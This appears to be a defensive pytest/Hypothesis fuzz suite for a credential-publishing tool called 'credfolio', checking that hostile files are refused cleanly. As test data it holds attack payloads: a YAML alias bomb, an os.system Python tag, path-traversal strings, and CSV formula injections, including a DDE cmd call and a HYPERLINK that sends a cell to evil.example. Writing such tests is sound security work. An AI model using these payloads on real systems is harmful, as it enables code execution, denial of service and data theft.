"""Hostile input: every file the tools read, fuzzed and attacked, gives one clear error and changes nothing.

Each *target* is one file credfolio reads (catalog YAML, stacks, mkdocs.yml, teacher YAML, the bulk-issue
CSV, the form-export CSV and its mapping, badge JSON for ``credfolio verify`` and for the build, review
and scores files, submission files, did.json, status lists, the ledger) plus the real entry point that
reads it (``credfolio.cli.main`` or, for the site build, :func:`credfolio.site.publish_wallet`). For every
target, Hypothesis feeds arbitrary bytes, mangled versions of the valid file and structurally valid files
with wrong values; named cases cover alias bombs, Python tags, encodings, size, NUL bytes, traversal and
symlinks. Every run must end in success or a typed error naming the file — never a traceback (the CLI
runs with ``CREDFOLIO_DEBUG=1`` so an unexpected exception fails the test instead of becoming
"internal error"), never a hang (a per-run alarm), never a changed input file, never a temporary file
left behind, and a failed writing command leaves the files it writes as they were.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import shutil
import signal
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from district_factory import make_district
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from submission_factory import CSV_HEADER, MAPPING_YML, SUBMISSION_YML, csv_row

from credfolio.cli import main
from credfolio.errors import CredfolioError

#: Hostile files rejected with a clear error, counted per target for the closing report (printed with -s).
REJECTED: dict[str, int] = {}


@pytest.fixture(scope="module", autouse=True)
def _report_rejections():
    """Print how many hostile files each target refused (seen with ``pytest -s``)."""
    yield
    if REJECTED:
        counts = ", ".join(f"{name} {count}" for name, count in sorted(REJECTED.items()))
        print(f"\nhostile inputs refused with a clear error: {sum(REJECTED.values())} ({counts})")

#: Examples per target and strategy; CREDFOLIO_FUZZ_EXAMPLES raises it for a longer local run (the suite stays fast).
EXAMPLES = int(os.environ.get("CREDFOLIO_FUZZ_EXAMPLES", "20"))
FUZZ = settings(max_examples=EXAMPLES, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture, HealthCheck.data_too_large])
#: No single run may take longer than this (a hang fails the test instead of stalling CI).
RUN_SECONDS = 20


# --------------------------------------------------------------------------------------------------
# The world: a district with a key, an opted-in teacher, a published badge, a submission and a review
# --------------------------------------------------------------------------------------------------


@dataclass
class World:
    """A copy of the prepared district, its private folder, key store, inbox and published site."""

    base: Path

    @property
    def district(self) -> Path:
        return self.base / "district"

    @property
    def private(self) -> Path:
        return self.base / "private"

    @property
    def keys(self) -> Path:
        return self.base / "keys"

    @property
    def inbox(self) -> Path:
        return self.base / "inbox"

    @property
    def site(self) -> Path:
        return self.base / "site"

    def badge(self) -> Path:
        return next((self.district / "wallet" / "badges").glob("*.json"))

    def review(self) -> Path:
        return next((self.private / "reviews").rglob("review-1.yml"))


@dataclass(frozen=True)
class Outcome:
    code: int
    out: str
    err: str


def _run(world: World, *args: str) -> Outcome:
    runner = CliRunner()
    env = {"CREDFOLIO_PRIVATE_DIR": str(world.private), "CREDFOLIO_DEBUG": "1", "CREDFOLIO_KEY_DIR": str(world.keys)}
    with runner.isolation(env=env) as (out, err, _):
        code = main([*args])
    return Outcome(code, out.getvalue().decode("utf-8", "replace"), err.getvalue().decode("utf-8", "replace"))


SECOND_SUBMISSION = SUBMISSION_YML.replace("2025-03-14-ana-lopez-wait-time", "2025-03-14-bo-chen-wait-time").replace(
    "Ana López", "Bo Chen").replace("ana.lopez@", "bo.chen@")


def _build_world(base: Path) -> World:
    from credfolio.config import load_district
    from credfolio.site import publish_wallet
    from credfolio.wallet import TeacherProfile, WalletConsent, write_teacher

    world = World(base)
    make_district(world.district)
    district = str(world.district)
    assert _run(world, "keys", "generate", "--district", district).code == 0
    config = load_district(world.district)
    write_teacher(config, TeacherProfile("ana-lopez", "Ana López", consent=WalletConsent()))
    issued = _run(world, "issue", "wait-time", "--name", "Ana López", "--email", "ana@testville.example", "--teacher", "ana-lopez",
                  "--awarded", "2025-03-01", "--district", district)
    assert issued.code == 0, issued
    world.inbox.mkdir()
    (world.inbox / "submission.yml").write_text(SUBMISSION_YML, encoding="utf-8")
    (world.inbox / "second-submission.yml").write_text(SECOND_SUBMISSION, encoding="utf-8")
    (world.inbox / "scores.yml").write_text("format: 1\nscores:\n  pausing: proficient\n  reflection: exemplary\n"
                                            "feedback:\n  pausing: Clear pauses.\nsummary: Well done.\n", encoding="utf-8")
    reviewed = _run(world, "review", str(world.inbox / "submission.yml"), "--reviewer", "Dana Ruiz", "--scores",
                    str(world.inbox / "scores.yml"), "--date", "2025-03-20", "--district", district)
    assert reviewed.code == 0, reviewed
    (world.inbox / "issue.csv").write_text("credential,name,email,teacher_slug\nwait-time,Bo Chen,bo@testville.example,\n"
                                           "wait-time-two,Ana López,ana@testville.example,ana-lopez\n", encoding="utf-8")
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(CSV_HEADER)
    writer.writerow(csv_row(name="Cy Diaz", email="cy@testville.example"))
    (world.inbox / "responses.csv").write_text(buffer.getvalue(), encoding="utf-8")
    (world.inbox / "mapping.yml").write_text(MAPPING_YML, encoding="utf-8")
    shutil.copyfile(world.badge(), world.inbox / "badge.json")
    publish_wallet(config, world.site, now=datetime.now(UTC))
    return world


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> World:
    """The prepared world, built once per module; tests work on copies."""
    return _build_world(tmp_path_factory.mktemp("hostile") / "world")


_copies = iter(range(10**9))


@pytest.fixture
def fresh(template, tmp_path) -> Callable[[], World]:
    """A function returning a new copy of the world (one per Hypothesis example)."""

    def copy() -> World:
        target = tmp_path / f"w{next(_copies)}"
        shutil.copytree(template.base, target, symlinks=True)
        # mkdocs.yml has no private_dir (the env var points at the copy), so a copy is self-contained
        return World(target)

    return copy


# --------------------------------------------------------------------------------------------------
# Targets: which file, which command, which files that command may write
# --------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    """One file credfolio reads, the command that reads it, and the folders that command writes."""

    name: str
    file: Callable[[World], Path]
    kind: str  # yaml, json, jsonl, csv
    run: Callable[[World, Path], Outcome]
    writes: tuple[str, ...] = ()  # folders (relative to the world) the command may write on success
    also_named: tuple[str, ...] = ()  # accepted instead of the file's name (the build blames the badge a bad did.json breaks)


def _cli(*args: str) -> Callable[[World, Path], Outcome]:
    def run(world: World, path: Path) -> Outcome:
        expanded = [arg.format(path=path, district=world.district, site=world.site, inbox=world.inbox,
                               second=world.inbox / "second-submission.yml") for arg in args]
        return _run(world, *expanded, "--district", str(world.district))

    return run


def _build(world: World, path: Path) -> Outcome:
    """The site build's wallet step (what ``mkdocs build`` runs in on_post_build), with errors as the hook reports them."""
    from credfolio.config import load_district
    from credfolio.site import publish_wallet

    site = world.base / "built"
    try:
        publish_wallet(load_district(world.district), site, now=datetime.now(UTC))
    except CredfolioError as error:
        return Outcome(1, "", f"credfolio: {error}\n")
    return Outcome(0, "built", "")


TARGETS = [
    Target("catalog credential", lambda w: w.district / "catalog" / "wait-time.yml", "yaml", _cli("check")),
    Target("stacks", lambda w: w.district / "catalog" / "stacks.yml", "yaml", _cli("check")),
    Target("mkdocs.yml", lambda w: w.district / "mkdocs.yml", "yaml", _cli("check")),
    Target("teacher", lambda w: w.district / "wallet" / "teachers" / "ana-lopez.yml", "yaml", _build),
    Target("issue csv", lambda w: w.inbox / "issue.csv", "csv", _cli("issue", "--csv", "{path}"),
           writes=("district/wallet", "private")),
    Target("form export csv", lambda w: w.inbox / "responses.csv", "csv",
           _cli("submissions", "import", "{path}", "--map", "{inbox}/mapping.yml"), writes=("private",)),
    Target("form mapping", lambda w: w.inbox / "mapping.yml", "yaml",
           _cli("submissions", "import", "{inbox}/responses.csv", "--map", "{path}"), writes=("private",)),
    Target("badge for verify", lambda w: w.inbox / "badge.json", "json", _cli("verify", "{path}", "--site", "{site}", "--offline")),
    Target("wallet badge", lambda w: w.badge(), "json", _build),
    Target("review", lambda w: w.review(), "yaml", _cli("issue", "--review", "{path}"), writes=("district/wallet", "private")),
    Target("scores", lambda w: w.inbox / "scores.yml", "yaml",
           _cli("review", "{second}", "--reviewer", "Dana Ruiz", "--scores", "{path}"), writes=("private",)),
    Target("submission", lambda w: w.inbox / "submission.yml", "yaml", _cli("submissions", "check", "{path}")),
    Target("did.json", lambda w: w.district / "wallet" / "did.json", "json", _build, also_named=("does not verify",)),
    Target("status list", lambda w: w.district / "wallet" / "status" / "revocation-1.json", "json", _build,
           also_named=("does not verify",)),
    Target("ledger for the build", lambda w: w.district / "wallet" / "ledger.jsonl", "jsonl", _build),
    Target("ledger for status publish", lambda w: w.district / "wallet" / "ledger.jsonl", "jsonl", _cli("status", "publish"),
           writes=("district/wallet",)),
]
TARGET_IDS = [target.name for target in TARGETS]


# --------------------------------------------------------------------------------------------------
# The checks every run must pass
# --------------------------------------------------------------------------------------------------


class _Hang(Exception):
    pass


@contextlib.contextmanager
def _time_limit(seconds: float) -> Iterator[None]:
    def expire(signum, frame):  # noqa: ANN001 - signal handler signature
        raise _Hang(f"no result after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def _snapshot(folder: Path) -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    if not folder.exists():
        return files
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink() and not path.name.endswith(".lock") and path.name != "ledger.lock":
            files[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).digest()
    return files


def attack(world: World, target: Target, content: bytes | None = None, *, path: Path | None = None) -> Outcome:
    """Write ``content`` into the target's file (unless None), run its command, and check every promise.

    Returns the outcome; a nonzero exit is counted as a hostile file rejected.
    """
    path = path or target.file(world)
    if content is not None:
        path.write_bytes(content)
    before_input = path.read_bytes() if path.is_file() and not path.is_symlink() else None
    before = {folder: _snapshot(world.base / folder) for folder in target.writes}
    with _time_limit(RUN_SECONDS):
        outcome = target.run(world, path)
    text = outcome.out + outcome.err
    assert "Traceback" not in text, text
    assert outcome.code not in (70,), f"internal error: {outcome.err}"
    if before_input is not None and target.kind != "jsonl":
        # the ledger is the one file credfolio repairs in place (a torn last line after a crash is cut)
        assert path.read_bytes() == before_input, f"{path} was changed"
    leftovers = [p for p in world.base.rglob("*.tmp")]
    assert not leftovers, f"temporary files left behind: {leftovers}"
    if outcome.code != 0 and target.name != "badge for verify":
        assert outcome.err.strip(), "failed without saying why"
        assert any(name in outcome.err for name in (path.name, *target.also_named)), f"the error does not name {path.name}: {outcome.err}"
        for folder, files in before.items():
            after = _snapshot(world.base / folder)
            if target.kind == "jsonl" and before_input is not None:
                # opening the ledger cuts a torn last line (bytes after the final newline) before reading it
                complete = before_input[: before_input.rfind(b"\n") + 1]
                assert path.read_bytes() in (before_input, complete), "a failed run changed complete ledger lines"
                after.pop(str(path.relative_to(world.base / folder)), None)
                files = {name: digest for name, digest in files.items() if name != str(path.relative_to(world.base / folder))}
            assert after == files, f"a failed run changed {folder}: {outcome.err}"
    if target.name == "badge for verify":
        assert outcome.code in (0, 1, 2)
        last = (outcome.out.strip().splitlines() or [""])[-1]
        assert last.startswith(("VERIFIED", "NOT VERIFIED", "EXPIRED", "REVOKED", "SUSPENDED", "STATUS UNKNOWN")) or \
            (outcome.code == 1 and path.name in outcome.err), outcome
    if outcome.code != 0 or (target.name == "badge for verify" and "VERIFIED: this" not in outcome.out):
        REJECTED[target.name] = REJECTED.get(target.name, 0) + 1
    return outcome


# --------------------------------------------------------------------------------------------------
# Strategies: arbitrary bytes, mangled valid files, valid structure with wrong values
# --------------------------------------------------------------------------------------------------

_scalars = st.one_of(st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
                     st.floats(allow_nan=False), st.text(max_size=40), st.sampled_from(["", "../../etc/passwd", "=HYPERLINK(\"x\")",
                                                                                         "wait-time", "2025-03-14", "javascript:alert(1)"]))
_values = st.recursive(_scalars, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                         st.dictionaries(st.text(max_size=12), inner, max_size=4)), max_leaves=12)


def _parse(kind: str, raw: bytes) -> Any:
    text = raw.decode("utf-8")
    if kind == "yaml":
        return yaml.safe_load(text)
    if kind == "json":
        return json.loads(text)
    if kind == "jsonl":
        return [json.loads(line) for line in text.splitlines() if line.strip()]
    return list(csv.reader(io.StringIO(text)))


def _dump(kind: str, data: Any) -> bytes:
    if kind == "yaml":
        return yaml.safe_dump(data, allow_unicode=True, sort_keys=False).encode("utf-8")
    if kind == "json":
        return json.dumps(data, ensure_ascii=False).encode("utf-8")
    if kind == "jsonl":
        data = data if isinstance(data, list) else [data]
        return "".join(json.dumps(item, ensure_ascii=False) + "\n" for item in data).encode("utf-8")
    buffer = io.StringIO()
    csv.writer(buffer).writerows([[cell if isinstance(cell, str) else json.dumps(cell) for cell in row] for row in data])
    return buffer.getvalue().encode("utf-8")


def _paths(data: Any, prefix: tuple = ()) -> list[tuple]:
    found = [prefix]
    if isinstance(data, dict):
        for key, value in data.items():
            found.extend(_paths(value, (*prefix, key)))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            found.extend(_paths(value, (*prefix, index)))
    return found


def _replace(data: Any, path: tuple, value: Any) -> Any:
    if not path:
        return value
    head, rest = path[0], path[1:]
    if isinstance(data, dict):
        return {key: (_replace(item, rest, value) if key == head else item) for key, item in data.items()}
    return [(_replace(item, rest, value) if index == head else item) for index, item in enumerate(data)]


@st.composite
def wrong_values(draw, kind: str, valid: bytes) -> bytes:
    """The valid file with one field (or cell) replaced by an arbitrary value, or removed."""
    data = _parse(kind, valid)
    path = draw(st.sampled_from(_paths(data)))
    if kind == "csv":
        value = draw(st.one_of(st.text(max_size=60), st.sampled_from(["=HYPERLINK(\"https://evil.example\",\"x\")", "", "a\x00b",
                                                                       "\"unterminated", "../../x", "wait-time;extra"])))
        if len(path) == 2:
            return _dump(kind, _replace(data, path, value))
        return _dump(kind, data + [[value] * draw(st.integers(0, 9))])
    if path and draw(st.booleans()):
        parent = path[:-1]
        container = data
        for part in parent:
            container = container[part]
        container = dict(container) if isinstance(container, dict) else list(container)
        del container[path[-1]]
        return _dump(kind, _replace(data, parent, container))
    return _dump(kind, _replace(data, path, draw(_values)))


@st.composite
def mangled(draw, valid: bytes) -> bytes:
    """The valid file with a few random byte edits (insert, delete, overwrite, truncate)."""
    data = bytearray(valid)
    for _ in range(draw(st.integers(1, 4))):
        position = draw(st.integers(0, len(data)))
        action = draw(st.sampled_from(["insert", "delete", "overwrite", "truncate"]))
        chunk = draw(st.one_of(st.binary(min_size=1, max_size=8), st.sampled_from(
            [b"\t", b": ", b"- ", b"&a ", b"*a", b"!!python/object/apply:os.system ['true']", b"\"", b"\xff", b"{", b"[", b"\x00",
             b"\r", b"\xef\xbb\xbf", b",", b";"])))
        if action == "insert":
            data[position:position] = chunk
        elif action == "delete":
            del data[position:position + len(chunk)]
        elif action == "overwrite":
            data[position:position + len(chunk)] = chunk
        else:
            del data[position:]
    return bytes(data)


def _valid(template: World, target: Target) -> bytes:
    return target.file(template).read_bytes()


# --------------------------------------------------------------------------------------------------
# Property fuzz
# --------------------------------------------------------------------------------------------------


def test_the_prepared_world_is_valid(template, fresh):
    """Every target's command succeeds on the unmodified world (so the fuzz is exercising real readers)."""
    for target in TARGETS:
        outcome = attack(fresh(), target)
        assert outcome.code == 0, (target.name, outcome)


@pytest.mark.parametrize("target", TARGETS, ids=TARGET_IDS)
@FUZZ
@given(data=st.data())
def test_arbitrary_bytes_are_refused_clearly(target, template, fresh, data):
    content = data.draw(st.binary(max_size=3000), label="content")
    attack(fresh(), target, content)


@pytest.mark.parametrize("target", TARGETS, ids=TARGET_IDS)
@FUZZ
@given(data=st.data())
def test_mangled_files_are_refused_clearly(target, template, fresh, data):
    content = data.draw(mangled(_valid(template, target)), label="content")
    attack(fresh(), target, content)


@pytest.mark.parametrize("target", TARGETS, ids=TARGET_IDS)
@FUZZ
@given(data=st.data())
def test_wrong_values_are_refused_clearly(target, template, fresh, data):
    content = data.draw(wrong_values(target.kind, _valid(template, target)), label="content")
    attack(fresh(), target, content)


# --------------------------------------------------------------------------------------------------
# Named attacks on every file
# --------------------------------------------------------------------------------------------------

YAML_TARGETS = [target for target in TARGETS if target.kind == "yaml"]
JSON_TARGETS = [target for target in TARGETS if target.kind == "json"]
TEXT_TARGETS = [target for target in TARGETS if target.kind in ("yaml", "json", "jsonl", "csv")]

BILLION_LAUGHS = b"""a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""

YAML_ATTACKS = {
    "billion laughs alias bomb": lambda valid: BILLION_LAUGHS,
    "an alias inside an otherwise valid file": lambda valid: b"x-anchor: &x value\n" + valid + b"\ny-alias: *x\n",
    "a python object tag": lambda valid: b"!!python/object/apply:os.system ['touch /tmp/credfolio-pwned']\n",
    "a python name tag on a value": lambda valid: valid + b"\nextra: !!python/name:os.system\n",
    "a merge key": lambda valid: b"base: &b {format: 1}\n<<: *b\n",
    "a custom local tag": lambda valid: valid.replace(b"format: 1", b"format: !custom 1", 1) if b"format: 1" in valid else b"!custom x",
    "nesting 10,000 levels deep": lambda valid: b"[" * 10_000 + b"]" * 10_000,
    "tabs for indentation": lambda valid: valid + b"\nnested:\n\tkey: value\n",
    "a duplicate key": lambda valid: valid + b"\n" + next(line for line in valid.splitlines() if line and not line.startswith(b"#")) + b"\n",
}

#: MkDocs reads mkdocs.yml with PyYAML's own rules (aliases, merge keys, tags, last duplicate wins); credfolio
#: reads it inertly and validates only its own settings, so these are accepted there.
MKDOCS_FEATURES = ("an alias inside an otherwise valid file", "a merge key", "a custom local tag", "a python name tag on a value",
                   "a duplicate key")

ENCODING_ATTACKS = {
    "invalid UTF-8": lambda valid: valid[:20] + b"\xff\xfe\xc3\x28" + valid[20:],
    "UTF-16 with a BOM": lambda valid: valid.decode("utf-8").encode("utf-16"),
    "UTF-16 without a BOM": lambda valid: valid.decode("utf-8").encode("utf-16-le"),
    "Windows-1252 (Latin-1) text": lambda valid: valid.decode("utf-8").encode("cp1252", "replace") + b"\xe9\n",
    "NUL bytes": lambda valid: valid[:10] + b"\x00\x00" + valid[10:],
    "a 10 MB file": lambda valid: valid + b"#" * (10 * 1024 * 1024) + b"\n",
    "an extremely long line": lambda valid: valid + (b"x" * 1_500_000) + b"\n",
    "an empty file": lambda valid: b"",
    "only whitespace": lambda valid: b"  \n\n\t\n",
    "a truncated file": lambda valid: valid[: len(valid) // 2],
}

JSON_ATTACKS = {
    "nesting 100,000 levels deep": lambda valid: b"[" * 100_000 + b"]" * 100_000,
    "an object nested 100,000 levels deep": lambda valid: b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "a duplicate key": lambda valid: valid.replace(b"{", b'{"id": "x", ', 1),
    "NaN": lambda valid: b'{"id": NaN}',
    "a huge number": lambda valid: b'{"id": ' + b"9" * 100_000 + b"}",
    "a top-level array": lambda valid: b"[" + valid + b"]",
    "a bare string": lambda valid: b'"did:web:evil.example"',
    "a lone surrogate escape": lambda valid: valid.replace(b'"id"', b'"\\ud800id"', 1),
}


def _cases(attacks: dict[str, Callable[[bytes], bytes]], targets: list[Target]) -> list[Any]:
    return [pytest.param(target, attack_name, id=f"{target.name}: {attack_name}")
            for target in targets for attack_name in attacks]


@pytest.mark.parametrize(("target", "attack_name"), _cases(YAML_ATTACKS, YAML_TARGETS))
def test_yaml_attacks_are_refused(target, attack_name, template, fresh):
    outcome = attack(fresh(), target, YAML_ATTACKS[attack_name](_valid(template, target)))
    if target.name == "mkdocs.yml" and attack_name in MKDOCS_FEATURES:
        return  # MkDocs's own file: anchors, merge keys and tags (!ENV, !!python/name) are MkDocs features, read inertly
    assert outcome.code != 0, outcome
    assert not Path("/tmp/credfolio-pwned").exists()


@pytest.mark.parametrize(("target", "attack_name"), _cases(ENCODING_ATTACKS, TEXT_TARGETS))
def test_encoding_and_size_attacks_are_refused(target, attack_name, template, fresh):
    valid = _valid(template, target)
    outcome = attack(fresh(), target, ENCODING_ATTACKS[attack_name](valid))
    if target.name != "badge for verify":
        # a long line can be a long answer; half a file can still be valid; an empty ledger is a district that issued nothing
        tolerated = attack_name in ("an extremely long line",) and target.kind in ("yaml", "csv")
        tolerated |= attack_name == "a truncated file" or (target.kind == "jsonl" and attack_name in ("an empty file", "only whitespace"))
        tolerated |= attack_name.startswith("UTF-16 with") and target.name == "form export csv"  # Excel's "Unicode text" export
        assert outcome.code != 0 or tolerated, outcome
    else:
        assert "VERIFIED: this" not in outcome.out


@pytest.mark.parametrize(("target", "attack_name"), _cases(JSON_ATTACKS, JSON_TARGETS))
def test_json_attacks_are_refused(target, attack_name, template, fresh):
    outcome = attack(fresh(), target, JSON_ATTACKS[attack_name](_valid(template, target)))
    assert outcome.code != 0, outcome


@pytest.mark.parametrize("target", TEXT_TARGETS, ids=[target.name for target in TEXT_TARGETS])
def test_a_utf8_byte_order_mark_is_accepted_in_files_people_edit(target, template, fresh):
    """Decision: a UTF-8 BOM (Notepad, Excel "CSV UTF-8") is accepted in every file people write or export.

    The ledger is the exception: only credfolio writes it (append-only, one JSON object per line), so a
    BOM there means it was edited by hand, and the tools stop with an error naming the file and line.
    """
    outcome = attack(fresh(), target, b"\xef\xbb\xbf" + _valid(template, target))
    if target.kind == "jsonl":
        assert outcome.code != 0 and "ledger.jsonl:1" in outcome.err, outcome
    else:
        assert outcome.code == 0, outcome


# `credfolio verify FILE` reads the file an administrator names on the command line, wherever the link points.
@pytest.mark.parametrize("target", [t for t in TEXT_TARGETS if "ledger" not in t.name and t.name != "badge for verify"],
                         ids=lambda t: t.name)
def test_a_symlink_pointing_out_of_the_repository_is_refused(target, template, fresh, tmp_path):
    """Even to a valid file: a link out of the repository could publish (or feed the tools) anything on the machine."""
    world = fresh()
    path = target.file(world)
    outside = tmp_path / "outside" / path.name
    outside.parent.mkdir(exist_ok=True)
    outside.write_bytes(path.read_bytes())
    path.unlink()
    path.symlink_to(outside)
    outcome = attack(world, target, path=path)
    assert outcome.code != 0, outcome
    assert "link" in outcome.err, outcome


def test_an_alias_bomb_inside_the_district_settings_is_refused_quickly(template, fresh):
    """mkdocs.yml may use aliases (a MkDocs feature), but one expanding to 9^9 items under extra.credfolio must not hang."""
    world = fresh()
    config = world.district / "mkdocs.yml"
    bomb = "".join(f"x-{line}\n" for line in BILLION_LAUGHS.decode().splitlines())  # anchors first, then the config
    text = bomb + config.read_text(encoding="utf-8").replace("    name: Testville School District", "    name: *i\n    stack_badges: *i")
    outcome = attack(world, TARGETS[2], text.encode("utf-8"))
    assert outcome.code != 0 and "extra.credfolio.name" in outcome.err, outcome


# --------------------------------------------------------------------------------------------------
# Path traversal in ids and slugs
# --------------------------------------------------------------------------------------------------

TRAVERSALS = ["../escape", "../../../../tmp/escape", "/tmp/escape", "%2e%2e%2fescape", "..%2fescape", "..\\escape",
              "C:\\Windows\\escape", "c:escape", "CON", "nul", "a/b", "escape\x00.yml", ".", "..", "~/escape", "wait-time/../x"]
#: Windows device names are valid slugs (lowercase letters); as ids they only fail because nothing has them.
WINDOWS_DEVICES = ("CON", "nul")


def _all_files(folder: Path) -> set[str]:
    return {str(path) for path in folder.rglob("*")}


def _command_refuses(world: World, args: list[str], where: str) -> Outcome:
    outside_before = _all_files(world.base.parent)
    with _time_limit(RUN_SECONDS):
        outcome = _run(world, *args, "--district", str(world.district))
    assert outcome.code not in (0, 70) and "Traceback" not in outcome.err, outcome
    assert len(outcome.err.strip().splitlines()) <= 2, outcome.err  # one line (plus a "N problems found" summary)
    assert _all_files(world.base.parent) == outside_before, f"{where}: files appeared"
    REJECTED["path traversal"] = REJECTED.get("path traversal", 0) + 1
    return outcome


@pytest.mark.parametrize("payload", TRAVERSALS)
def test_traversal_in_command_line_ids_is_refused(payload, fresh):
    world = fresh()
    _command_refuses(world, ["issue", payload, "--name", "N", "--email", "n@testville.example"], "credential id")
    _command_refuses(world, ["issue", "wait-time", "--name", "N", "--email", "n@testville.example", "--teacher", payload], "teacher slug")
    _command_refuses(world, ["revoke", payload, "--reason", "test"], "badge id")
    _command_refuses(world, ["submissions", "template", payload, "--out", str(world.inbox / "t.yml")], "template id")


@pytest.mark.parametrize("payload", TRAVERSALS)
def test_traversal_in_file_ids_is_refused(payload, template, fresh):
    world = fresh()
    quoted = json.dumps(payload)  # a YAML double-quoted scalar
    submission = SUBMISSION_YML.replace("id: 2025-03-14-ana-lopez-wait-time", f"id: {quoted}")
    attack(world, TARGETS[11], submission.encode("utf-8"))
    assert attack(world, TARGETS[9], None).code in (0, 1)
    path = world.inbox / "submission.yml"
    if payload in WINDOWS_DEVICES:
        return  # known gap: "nul" is a valid submission id (a folder name Windows cannot create)
    _command_refuses(world, ["review", str(path), "--reviewer", "X", "--scores", str(world.inbox / "scores.yml")], "submission id")
    credential = (template.district / "catalog" / "wait-time.yml").read_text(encoding="utf-8").replace("id: wait-time", f"id: {quoted}", 1)
    assert attack(world, TARGETS[0], credential.encode("utf-8")).code != 0
    teacher = _valid(template, TARGETS[3]).decode("utf-8").replace("slug: ana-lopez", f"slug: {quoted}")
    assert attack(fresh(), TARGETS[3], teacher.encode("utf-8")).code != 0
    rows = f"credential,name,email,teacher_slug\nwait-time,N,n@testville.example,{csv_quote(payload)}\n"
    assert attack(fresh(), TARGETS[4], rows.encode("utf-8")).code != 0
    rows = f"credential,name,email\n{csv_quote(payload)},N,n@testville.example\n"
    assert attack(fresh(), TARGETS[4], rows.encode("utf-8")).code != 0


def csv_quote(value: str) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow([value])
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------------
# CSV: formula injection, delimiters, encodings
# --------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_exported_csv_cells_never_start_a_formula(payload):
    from credfolio.pages import csv_cell

    assert csv_cell(payload).startswith("'"), csv_cell(payload)


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.text(max_size=30))
def test_no_exported_csv_cell_starts_with_a_formula_trigger(text):
    from credfolio.pages import csv_cell

    assert csv_cell(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_a_formula_in_a_bulk_issue_name_is_stored_as_text_and_exported_neutralised(fresh):
    """A name like =HYPERLINK(...) is a (strange) name, not an attack on credfolio; every CSV credfolio writes quotes it."""
    world = fresh()
    rows = f"credential,name,email,teacher_slug\nwait-time,{csv_quote(FORMULAS[0])},f@testville.example,ana-lopez\n"
    outcome = attack(world, TARGETS[4], rows.encode("utf-8"))
    if outcome.code != 0:
        assert "issue.csv:2" in outcome.err
        return
    from credfolio.config import load_district
    from credfolio.pages import csv_cell

    assert load_district(world.district)  # the badge holds the text as it was given; pages.csv_cell quotes it on export
    assert csv_cell(FORMULAS[0]) == "'" + FORMULAS[0]


@pytest.mark.parametrize(("name", "content", "ok"), [
    ("semicolons (European Excel)", "credential;name;email\nwait-time;N;n@testville.example\n", True),
    ("tabs", "credential\tname\temail\nwait-time\tN\tn@testville.example\n", True),
    ("pipes", "credential|name|email\nwait-time|N|n@testville.example\n", False),
    ("CRLF line ends", "credential,name,email\r\nwait-time,N,n@testville.example\r\n", True),
    ("a stray quote", 'credential,name,email\nwait-time,"N,n@testville.example\n', False),
    ("a row with too many fields", "credential,name,email\nwait-time,N,n@testville.example,extra\n", False),
    ("a 1 MB cell", "credential,name,email\nwait-time," + "N" * 1_000_000 + ",n@testville.example\n", False),
], ids=lambda value: value if isinstance(value, str) and len(value) < 40 else None)
def test_bulk_issue_csv_shapes(name, content, ok, fresh):
    outcome = attack(fresh(), TARGETS[4], content.encode("utf-8"))
    assert (outcome.code == 0) is ok, outcome
